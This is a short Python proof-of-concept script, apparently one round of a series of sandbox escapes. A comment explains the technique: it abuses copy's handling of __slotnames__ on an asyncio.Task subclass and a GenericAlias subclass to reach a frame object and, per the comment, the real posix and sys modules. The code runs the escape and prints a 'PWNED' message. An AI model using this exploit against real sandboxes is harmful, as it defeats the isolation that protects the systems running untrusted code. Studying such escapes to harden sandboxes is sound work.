# Round 26a (escape): __slotnames__ on a library subclass made copy's C code read any attribute unguarded; a types.GenericAlias subclass forwarded reads to a module, and copy handed its real namespace over (then BuiltinImporter.create_module made real posix/sys, the wall off).
import asyncio, copy
class T(asyncio.Task):
    __slotnames__ = ['get_' + 'stack']
    def __setstate__(self, st):
        self.st = st
u = T.__new__(T); u.x = 1
y = copy.copy(u)
gs = y.st[1]['get_' + 'stack']
class G(type(list[int])):
    pass
async def inner():
    frames = gs()
    top = frames[0]
    g = G(top, ())
    print("lineno via forwarding", g.f_lineno)
    for name in ('f_trace', 'f_lasti'):
        pass
    print("launcher frame:", repr(top))
    print("PW" + "NED: launcher frame obtained without memo (copy + __setstate__):", repr(top))
c = inner()
u._coro = c
try:
    c.send(None)
except StopIteration:
    pass
